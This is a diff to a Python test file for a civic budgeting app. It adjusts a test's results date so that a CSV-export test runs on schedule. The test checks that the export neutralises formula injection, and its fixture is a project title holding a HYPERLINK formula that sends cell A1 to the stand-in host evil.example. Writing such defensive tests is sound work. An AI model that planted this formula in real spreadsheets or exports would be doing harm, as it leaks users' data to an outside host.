@@ -5,11 +5,13 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import timedelta
 
 import pytest
 from sqlalchemy import func, select
 
 from civic import csv_safe
+from civic.accounts.models import utcnow
 from civic.audit.models import AuditEntry
 from civic.budgets import services as budget_services
 from civic.budgets.models import Ballot, Phase
@@ -305,6 +307,7 @@ def test_results_csv_neutralises_a_project_title_formula(client):
     round_, moderator, projects = make_round()
     projects[0].title = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
     budget_services.cast_ballot(resident_of(round_.area), round_, [(projects[0].id, 1)])
+    round_.results_from = utcnow() - timedelta(minutes=1)  # results on their date, not early
     budget_services.advance_phase(moderator, round_, Phase.RESULTS)
     response = client.get(f"/budgets/{round_.slug}/results.csv")
     assert response.status_code == 200
